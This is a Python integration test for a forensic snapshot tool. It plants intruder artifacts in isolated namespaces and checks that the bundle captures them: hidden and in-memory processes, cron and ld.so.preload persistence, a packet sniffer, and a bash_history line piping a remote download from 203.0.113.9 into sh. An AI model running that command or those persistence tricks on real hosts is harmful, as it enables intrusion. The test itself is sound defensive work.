#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""`culprit-agent snapshot` on a host without collector or running agent: what an intruder left is in the bundle, what would trap a collector does
not, stock tools agree with the manifest, nothing of the host was changed. All of it in namespaces of its own: processes, mounts, network."""
import json
import os
import pathlib
import resource
import shutil
import socket
import stat
import subprocess
import sys
import threading

from harness import BIN, Rig, check, note, run
from snapshot_box import BOX, HASH, KEY_LINE, enter, private_file

SENT = 300_000
SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"
SPARSE = 10 << 30
MANY = 10_000
CHURN = 4


def plant_processes():
    planted = {}
    sleep = pathlib.Path("/usr/bin/sleep").read_bytes()
    private_file("/tmp/.x/kworker", "")
    shutil.copy("/usr/bin/sleep", "/tmp/.x/kworker")
    environment = {"PATH": "/usr/bin", "AWS_SECRET_ACCESS_KEY": SECRET, "SSH_CONNECTION": "203.0.113.7 5000 192.0.2.1 22"}
    planted["deleted"] = subprocess.Popen(["/tmp/.x/kworker", "600"], env=environment).pid
    os.unlink("/tmp/.x/kworker")
    memory = os.memfd_create("payload")
    os.write(memory, sleep)
    planted["memory"] = subprocess.Popen([f"/proc/self/fd/{memory}", "600"], pass_fds=(memory,)).pid
    os.close(memory)
    planted["hidden"] = subprocess.Popen(["/usr/bin/sleep", "600"]).pid
    os.mkdir("/mnt/empty")
    run("mount", "--bind", "/mnt/empty", f"/proc/{planted['hidden']}")
    return planted


def plant_sockets():
    listener = socket.create_server(("127.0.0.1", 4444))
    client = socket.create_connection(("127.0.0.1", 4444))
    server, _ = listener.accept()
    threading.Thread(target=client.sendall, args=(b"x" * SENT,), daemon=True).start()
    check(len(server.recv(SENT, socket.MSG_WAITALL)) == SENT, "relay")
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    lingering = open("/tmp/loot.txt", "w+")
    lingering.write("loot of the night\n")
    lingering.flush()
    os.unlink("/tmp/loot.txt")
    return {"sockets": (listener, client, server, sniffer, lingering), "client_port": client.getsockname()[1], "pid": os.getpid()}


def plant_files():
    private_file("/root/.ssh/authorized_keys", KEY_LINE, 0o600)
    private_file("/root/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nBBBB\n-----END OPENSSH PRIVATE KEY-----\n", 0o600)
    private_file("/root/.bash_history", f"export AWS_SECRET_ACCESS_KEY={SECRET}\ncurl http://203.0.113.9/x | sh\n", 0o600)
    private_file("/var/spool/cron/crontabs/root", "* * * * * /tmp/.x/kworker\n", 0o600)
    private_file("/var/log/auth.log", "Accepted publickey for root\n" * 100)
    private_file("/tmp/evil\x1b[31m\nname", "x")
    attributes = subprocess.run(["chattr", "+ia", "/root/.ssh/authorized_keys"], stderr=subprocess.DEVNULL, check=False).returncode == 0
    os.mkfifo("/tmp/fifo")
    os.mkfifo("/etc/fifo")
    os.symlink("/tmp/loop-b", "/tmp/loop-a")
    os.symlink("/tmp/loop-a", "/tmp/loop-b")
    os.symlink("/etc/shadow", "/root/.ssh/rc")
    os.mknod("/tmp/device", stat.S_IFCHR | 0o600, os.makedev(5, 0))
    with open("/tmp/sparse", "wb") as sparse:
        sparse.truncate(SPARSE)
    os.mkdir("/var/tmp/many")
    for number in range(MANY):
        os.close(os.open(f"/var/tmp/many/{number:05}", os.O_CREAT))
    private_file("/etc/ld.so.preload", "/usr/local/lib/libselinux.so.8\n")
    return attributes


def growing(stop):
    with open("/var/log/auth.log", "a", encoding="ascii") as log:
        while not stop.is_set():
            log.write("Failed password for invalid user\n" * 50)
            log.flush()


def scene(rig_dir):
    enter(rig_dir)
    planted = plant_processes() | plant_sockets()
    planted["attributes"] = plant_files()
    kept = planted.pop("sockets")
    watched = ["/etc/passwd", "/root/.ssh/authorized_keys", "/var/spool/cron/crontabs/root", "/etc/systemd/system/update.timer"]
    for path in watched:
        # Before mtime, so that a read without O_NOATIME would set it under relatime.
        if path != "/root/.ssh/authorized_keys" or not planted["attributes"]:
            os.utime(path, (1_000_000_000, 1_700_000_000))
    before = {path: os.stat(path).st_atime_ns for path in watched}
    stop = threading.Event()
    writer = threading.Thread(target=growing, args=(stop,))
    writer.start()
    # One child each at any time: gone before it can be read, and yet in the list of processes.
    loops = [subprocess.Popen(["/bin/sh", "-c", "while :; do /bin/true; done"]) for _ in range(CHURN)]
    done = subprocess.run(["/mnt/bin/culprit-agent", "snapshot", "--data", "/mnt/rig/state", "--out", "/mnt/rig/bundle.tar.zst", "--case", "case-7",
                           "--json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, check=False)
    stop.set()
    for loop in loops:
        loop.kill()
    writer.join()
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    planted["same_atime"] = before == {path: os.stat(path).st_atime_ns for path in watched}
    planted["exit"], planted["said"], planted["peak_kib"] = done.returncode, done.stderr, peak
    planted["summary"] = json.loads(done.stdout) if done.returncode == 0 else {}
    pathlib.Path("/mnt/rig/planted.json").write_text(json.dumps(planted))
    del kept


def rows(folder, table):
    """All parts of a table."""
    found = []
    for part in sorted((folder / "live").glob(f"{table}*.jsonl")):
        if part.stem == table or part.stem[len(table) + 1:].isdigit():
            found += [json.loads(line) for line in part.read_text().splitlines()]
    return found


def one(found, what, **fields):
    match = [row for row in found if all(row.get(key) == value for key, value in fields.items())]
    check(match, f"{what}: none of {len(found)} rows has {fields}")
    return match[0]


def check_stock_tools(bundle, folder):
    run("tar", "--zstd", "-xf", bundle, "-C", folder)
    run("sh", "-c", "sha256sum --quiet --strict -c SHA256SUMS", cwd=folder)
    run("sh", "-c", "ssh-keygen -Y verify -f allowed_signers -I culprit-agent -n culprit-snapshot -s manifest.jsonl.sig < manifest.jsonl", cwd=folder)
    note("tar, sha256sum and ssh-keygen agree with the bundle")


def check_processes(folder, planted):
    processes = rows(folder, "processes")
    executables = rows(folder, "executables")
    deleted = one(processes, "deleted executable", pid=planted["deleted"])
    check(deleted["exe_deleted"] and deleted["arguments"] == ["/tmp/.x/kworker", "600"], f"{deleted}")
    check(deleted["environment"]["AWS_SECRET_ACCESS_KEY"] == "" and "203.0.113.7" in deleted["environment"]["SSH_CONNECTION"], f"{deleted['environment']}")
    check(one(processes, "memory", pid=planted["memory"])["exe_in_memory"], "a memory file is not told")
    sleep = pathlib.Path("/usr/bin/sleep").read_bytes()
    for which in ("deleted", "memory"):
        row = next(r for r in executables if planted[which] in r["pids"])
        check((folder / row["copy"]).read_bytes() == sleep, f"{which}: other bytes than it ran")
    hidden = one(rows(folder, "hidden"), "hidden process", pid=planted["hidden"], in_proc=False)
    check(hidden["in_own_procfs"] and hidden["in_kernel_list"] and "/mnt" not in hidden["covered_by"].split(" - ")[0].split()[4], f"{hidden}")
    check(len(rows(folder, "hidden")) == 1, f"more is called hidden: {rows(folder, 'hidden')}")
    one(processes, "the hidden process", pid=planted["hidden"], exe="/usr/bin/sleep")
    loot = one(rows(folder, "deleted_files"), "deleted file", pid=planted["pid"], path="/tmp/loot.txt (deleted)")
    check((folder / loot["copy"]).read_text() == "loot of the night\n", "the deleted file's content")
    note("deleted, in memory and hidden: found, with the bytes that ran")


def check_sockets(folder, planted):
    sockets = rows(folder, "sockets")
    client = one(sockets, "connection", protocol="tcp", local_port=planted["client_port"], remote_port=4444)
    check(client["bytes_sent"] == SENT and client["owners"][0]["pid"] == planted["pid"], f"{client}")
    one(sockets, "listener", protocol="tcp", local_port=4444, state="listen")
    check(one(sockets, "packet socket", protocol="packet")["owners"], "the sniffer's owner")
    one(rows(folder, "network"), "interface", kind="link", name="lo")
    note(f"the connection with its owner and the {SENT} bytes that it had sent before the snapshot")


def check_files(folder, planted):
    files = rows(folder, "files")
    for path in ("/root/.ssh/authorized_keys", "/var/spool/cron/crontabs/root", "/etc/systemd/system/update.timer", "/etc/ld.so.preload",
                 "/etc/ssh/keys/ana", "/var/log/auth.log"):
        check((folder / one(files, path, path=path)["copy"]).exists(), f"{path} is not in the bundle")
    if planted["attributes"]:
        check(one(files, "keys", path="/root/.ssh/authorized_keys")["attributes"] == "immutable append-only", "lsattr's +ia")
    keys = rows(folder, "authorized_keys")
    check(one(keys, "keys of ana", user="ana", path="/etc/ssh/keys/ana")["text"].startswith("ssh-ed25519"), "by AuthorizedKeysFile")
    root = one(rows(folder, "sshd"), "sshd", user="root")
    check("permitrootlogin yes" in root["settings"], f"{root}")
    posture = json.loads((folder / "live/ssh-posture.json").read_text())
    check(any(finding["id"] == "cfg.root_login" for finding in posture["findings"]), "what ssh-check finds")
    for path in ("/root/.ssh/id_ed25519", "/etc/ssh/ssh_host_ed25519_key"):
        check(one(files, path, path=path)["not_copied"] == "a private key", f"{path} was copied")
    kinds = {path: one(files, path, path=path)["kind"] for path in ("/tmp/fifo", "/etc/fifo", "/tmp/loop-a", "/tmp/device", "/root/.ssh/rc")}
    check(list(kinds.values()) == ["fifo", "fifo", "link", "device", "link"], f"{kinds}")
    check((folder / one(files, "sparse", path="/tmp/sparse")["copy"]).stat().st_size <= 10 << 20, "a sparse file is not bounded")
    check(sum(row["path"].startswith("/var/tmp/many/") for row in files) == 5_000, "a large directory is not bounded")
    errors = "".join(part.read_text() for part in folder.glob("errors-tier*.jsonl"))
    for what in ("more entries than the limit of a directory", "holds a private key"):
        check(what in errors, f"not recorded: {what}")
    died = [json.loads(line) for line in (folder / "errors-tier0.jsonl").read_text().splitlines()]
    died = [row["source"] for row in died if row["reason"] == "ended before it could be read"]
    check(died, "none of the processes that came and went all the while died between list and read")
    log = one(files, "log", path="/var/log/auth.log")
    check((folder / log["copy"]).stat().st_size == min(log["size"], 64 << 20), f"the growing log is not cut where it ended when it was looked at: {log}")
    check("it grew while it was read" in (folder / "manifest.jsonl").read_text(), "that the log grew is not recorded")
    manifest = [json.loads(line) for line in (folder / "manifest.jsonl").read_text().splitlines()]
    check(one(manifest, "sparse", source="/tmp/sparse").get("cut"), "the cut is not in the manifest")
    check(manifest[0]["case"] == "case-7" and manifest[0]["limits"], f"{manifest[0]}")
    bytes_of_all = b"".join(p.read_bytes() for p in folder.rglob("*") if p.is_file() and p.stat().st_size < 50 << 20)
    for secret in (SECRET, HASH[14:], "BBBB\n-----END"):
        check(secret.encode() not in bytes_of_all, f"a secret got out: {secret}")
    note(f"a log that grows, a sparse file of 10 GiB, {MANY:,} files in a directory, {len(died)} processes that died before they were read: bounded, told")
    note("persistence, keys and logs are there; secrets, pipes, devices and links are not")


def check_summary(bundle, planted):
    """What was planted is named."""
    notable = json.loads(run(BIN / "culprit", "snapshot", "show", bundle, "--json").stdout)["notable"]
    for kind, which in (("hidden-process", "hidden"), ("memory-executable", "memory"), ("deleted-executable", "deleted"), ("packet-socket", "pid"),
                        ("deleted-file", "pid"), ("listener", "pid")):
        check(any(n["kind"] == kind and n["pid"] == planted[which] for n in notable), f"{kind} of {planted[which]} is not named: {notable}")
    for kind, text in (("preload", "/etc/ld.so.preload"), ("ssh", "cfg.root_login")) + ((("locked-file", "/root/.ssh/authorized_keys"),) if planted["attributes"] else ()):
        check(any(n["kind"] == kind and text in n["text"] for n in notable), f"{kind} {text} is not named: {notable}")
    shown = run(BIN / "culprit-agent", "snapshot", "show", bundle).stdout
    check("\x1b" not in shown and "hidden-process" in shown, "the text of it")
    note(f"{len(notable)} things stand out, all that was planted among them")


def check_forgeries(bundle, key):
    def verdict(path, *more):
        done = run(BIN / "culprit-agent", "snapshot", "verify", path, "--json", *more, check=False)
        return done.returncode, json.loads(done.stdout)

    code, good = verdict(bundle, "--key", key)
    check(code == 0 and good["trusted"] and good["whole_tiers"] == [0, 1, 2], f"{good}")
    content = bundle.read_bytes()
    part = bundle.with_name("forged.tar.zst")
    part.write_bytes(content[:-1000])
    code, cut = verdict(part)
    check(code == 1 and cut["findings"][0]["defect"] == "truncated" and cut["whole_tiers"], f"{cut}")
    middle = len(content) // 2
    part.write_bytes(content[:middle] + bytes([content[middle] ^ 1]) + content[middle + 1:])
    code, edited = verdict(part)
    check(code == 1 and edited["findings"], f"{edited}")
    done = run(BIN / "culprit", "verify", bundle, "--key", key, "--json", check=False)
    check(done.returncode == 0 and json.loads(done.stdout) == good, f"culprit verify: {done.stdout}")
    code, other = verdict(bundle, "--key", "SHA256:" + "A" * 43)
    check(code == 1 and other["findings"][0]["defect"] == "wrong-key", f"{other}")
    note(f"truncated (tiers {cut['whole_tiers']} still whole), edited and signed by another: each refused with its reason")


def main():
    with Rig("snapshot") as rig:
        command = [*BOX, "/usr/bin/python3", __file__, "scene", rig.dir]
        done = run(*command, check=False, stderr=subprocess.STDOUT)
        check(done.returncode == 0, f"the scene: {done.stdout}")
        planted = json.loads((rig.dir / "planted.json").read_text())
        check(planted["exit"] == 0, f"snapshot: {planted['said']}")
        summary = planted["summary"]
        note(f"{summary['members']} members, {summary['bytes'] >> 10} KiB, {summary['skipped']} skipped; peak {planted['peak_kib'] >> 10} MiB")
        check(planted["peak_kib"] < 128 << 10, "more memory than 128 MiB")
        check(planted["same_atime"], "an access time was changed")
        bundle, folder = rig.dir / "bundle.tar.zst", rig.dir / "unpacked"
        folder.mkdir()
        check_stock_tools(bundle, folder)
        check_processes(folder, planted)
        check_sockets(folder, planted)
        check_files(folder, planted)
        check_summary(bundle, planted)
        check_forgeries(bundle, summary["key_fingerprint"])


if __name__ == "__main__":
    if sys.argv[1:2] == ["scene"]:
        scene(sys.argv[2])
    else:
        main()
